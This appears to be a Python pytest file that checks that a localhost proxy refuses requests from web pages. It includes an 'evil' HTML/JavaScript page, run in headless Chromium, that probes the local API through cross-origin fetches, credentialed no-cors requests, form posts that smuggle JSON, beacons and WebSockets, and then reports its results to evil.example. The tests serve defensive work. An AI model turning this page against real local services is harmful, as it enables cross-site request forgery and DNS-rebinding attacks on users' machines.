"""Web pages get nothing out of a listener on localhost: by a table of what
browsers send, and by a browser."""

import http.server
import itertools
import json
import os
import shutil
import subprocess
import threading
import urllib.parse

import pytest
import world as world_module

HOSTS = {'localhost': True, 'LOCALHOST:1234': True, '[::1]': True,
         'api.elastic-cloud.com': True, 'evil.example': False,
         'localhost.evil.example': False, '127.0.0.1.evil.example:9080': False}
ORIGINS = (None, 'null', 'http://localhost', 'https://evil.example')
SITES = (None, 'none', 'same-origin', 'same-site', 'cross-site', 'none, none',
         '')
PREFLIGHT = ((), (('Access-Control-Request-Method', 'GET'),),
             (('access-control-request-headers', 'authorization'),))
SOCKETS = ((), (('Sec-WebSocket-Version', '13'),))


def listeners(world):
    return [
        '{ name = "tcp"; address = "127.0.0.1:0"; }',
        '{ name = "unix"; address = "unix:%s"; }' % world.path('s'),
        '{ name = "tcp-open"; address = "127.0.0.1:0"; browsers = true; }',
        '{ name = "unix-open"; address = "unix:%s"; browsers = true; }'
        % world.path('o')]


def expected(is_unix, is_open, host, origin, site, preflight, socket):
    # No name leads a page to a Unix socket: there Host says nothing.
    if not is_unix and not HOSTS[host]:
        return 'sallyport.host_refused'
    if not is_open and (origin is not None or preflight or socket or
                        site not in (None, 'none', 'same-origin')):
        return 'sallyport.browser_refused'
    return None


class Asker:
    """Asks on a connection that is kept as long as it lasts."""

    def __init__(self, world, which):
        self.world = world
        self.which = which
        self.raw = None

    def ask(self, **request):
        if self.raw is None:
            self.raw = self.world.raw(self.which)
        response = self.raw.ask(**request)
        if response.fields.one('connection') == 'close':
            self.close()
        return response

    def close(self):
        if self.raw:
            self.raw.close()
        self.raw = None


@pytest.mark.slow
@pytest.mark.parametrize('which', range(4))
def test_what_pages_send_is_refused_unless_browsers_are_welcome(world, which):
    world.start(world.config(listeners=listeners(world)))
    asker = Asker(world, which)
    passed = total = 0
    for case in itertools.product(HOSTS, ORIGINS, SITES, PREFLIGHT, SOCKETS):
        host, origin, site, preflight, sockets = case
        fields = [*preflight, *sockets]
        if origin is not None:
            fields.append(('Origin', origin))
        if site is not None:
            fields.append(('Sec-Fetch-Site', site))
        code = expected(which % 2 == 1, which >= 2, *case)
        total += 1
        passed += code is None
        response = asker.ask(host=host, fields=fields,
                             method='OPTIONS' if preflight else 'GET')
        assert response.status == (421 if code else 200), case
        assert response.fields.one('x-cloud-error-codes') == code, case
        assert not [n for n, _ in response.fields
                    if n.lower().startswith('access-control-')], case
    asker.close()
    assert len(world.clouds[0].requests) == passed
    lines = world.access(total)
    assert len([x for x in lines if x['sallyport'].get('fault')]) == \
        total - passed
    # Who is refused costs the upstream not even a connection.
    assert passed or not world.clouds[0].connections


def test_refused_requests_open_no_connection_upstream(world):
    world.start(world.config(listeners=listeners(world)))
    for which in (0, 1):
        for fields in ([('Origin', 'https://evil.example')],
                       [('Sec-Fetch-Site', 'cross-site')],
                       [('Access-Control-Request-Method', 'PUT')],
                       [('Sec-WebSocket-Key', 'x')]):
            assert world.ask(fields=fields, which=which).status == 421
    assert world.ask(host='evil.example').status == 421
    world.access(9)
    assert not world.clouds[0].connections


# A browser.

PAGE = r"""<!doctype html><title>evil</title><body><script>
const target = %(target)s, self_ = location.origin;
const report = {};
async function attempt(name, url, options) {
    try {
        const r = await fetch(url, options);
        report[name] = 'got ' + r.type + ' ' + r.status + ' ' +
            (await r.text()).length;
    } catch (e) { report[name] = 'failed'; }
}
function element(kind, url) {
    return new Promise(done => {
        const e = document.createElement(kind);
        e.onload = () => { report[kind] = 'got'; done(); };
        e.onerror = () => { report[kind] = 'failed'; done(); };
        setTimeout(done, 3000);
        e.src = url;
        document.body.append(e);
    });
}
function form(method, url) {
    return new Promise(done => {
        const frame = document.createElement('iframe');
        frame.name = 'f' + method;
        document.body.append(frame);
        const f = document.createElement('form');
        f.action = url; f.method = method; f.target = frame.name;
        f.enctype = 'text/plain';
        f.innerHTML = '<input name="{&quot;a" value="b&quot;:1}">';
        document.body.append(f);
        frame.onload = done;
        setTimeout(done, 3000);
        f.submit();
    });
}
(async () => {
    for (const [where, base] of Object.entries(target)) {
        await attempt(where + ' simple', base + '/api/v1/deployments');
        await attempt(where + ' no-cors', base + '/api/v1/deployments',
            { mode: 'no-cors', credentials: 'include' });
        await attempt(where + ' post', base + '/api/v1/deployments',
            { mode: 'no-cors', method: 'POST', body: '{}' });
        await attempt(where + ' preflight', base + '/api/v1/deployments/x',
            { method: 'DELETE', headers: { Authorization: 'ApiKey x' } });
        await element('img', base + '/api/v1/deployments?img');
        await element('script', base + '/api/v1/deployments?script');
        await element('iframe', base + '/api/v1/deployments?iframe');
        await form('get', base + '/api/v1/deployments?form');
        await form('post', base + '/api/v1/deployments');
        navigator.sendBeacon(base + '/api/v1/deployments', 'x');
        try {
            const s = new WebSocket(base.replace('http', 'ws') + '/ws');
            await new Promise(done => {
                s.onopen = () => { report.ws = 'got'; done(); };
                s.onerror = done;
            });
        } catch (e) {}
    }
    await fetch('/done', { method: 'POST', body: JSON.stringify(report) });
})();
</script>"""


class EvilSite:
    """Serves the page and hears what the page found out.  After a first
    answer, a name it is asked by may lead to the listener instead."""

    def __init__(self):
        self.done = threading.Event()
        self.page = b''
        self.report = None
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header('Content-Type', 'text/html')
                self.end_headers()
                self.wfile.write(site.page)

            def do_POST(self):
                n = int(self.headers['Content-Length'])
                site.report = json.loads(self.rfile.read(n))
                self.send_response(204)
                self.end_headers()
                site.done.set()

            def log_message(self, *_):
                pass
        self.server = http.server.ThreadingHTTPServer(('127.0.0.1', 0),
                                                      Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever,
                         daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.mark.slow
@pytest.mark.skipif(not shutil.which('chromium'),
                    reason='chromium is not installed')
def test_a_page_of_another_origin_reaches_no_upstream(world):
    process = world.start()
    port = urllib.parse.urlsplit('//' + process.listening[0]).port
    site = EvilSite()
    site.page = (PAGE % {'target': json.dumps({
        'address': 'http://127.0.0.1:%d' % port,
        'name': 'http://localhost:%d' % port,
        'rebound': 'http://rebound.example:%d' % port})}).encode()
    profile = world.path('profile')
    command = ['chromium', '--headless=new', '--disable-gpu',
               '--no-first-run', '--disable-dev-shm-usage',
               '--disable-background-networking', '--no-proxy-server',
               '--disable-features=LocalNetworkAccessChecks',
               '--user-data-dir=' + profile,
               '--host-resolver-rules=MAP evil.example 127.0.0.1, '
               'MAP rebound.example 127.0.0.1',
               '--remote-debugging-port=0']
    if os.getuid() == 0:
        command.append('--no-sandbox')
    browser = subprocess.Popen(
        [*command, 'http://evil.example:%d/' % site.port],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        assert site.done.wait(5 * world_module.LIMIT), 'the page did not end'
    finally:
        browser.terminate()
        browser.wait()
        site.close()
        shutil.rmtree(profile, ignore_errors=True)
    world.stop()
    lines = world.access()
    faults = [x['sallyport'].get('fault') for x in lines]
    # It did come as far as the guard, by every name.
    assert faults.count('browser_refused') >= 10, faults
    assert faults.count('host_refused') >= 5, faults
    assert set(faults) <= {'browser_refused', 'host_refused', 'bad_request'}
    assert not world.clouds[0].requests
    assert not world.clouds[0].connections
    # An opaque answer tells nothing, not even its status.
    assert not [k for k, v in site.report.items()
                if v.startswith('got') and 'opaque 0 0' not in v and
                k != 'iframe'], site.report
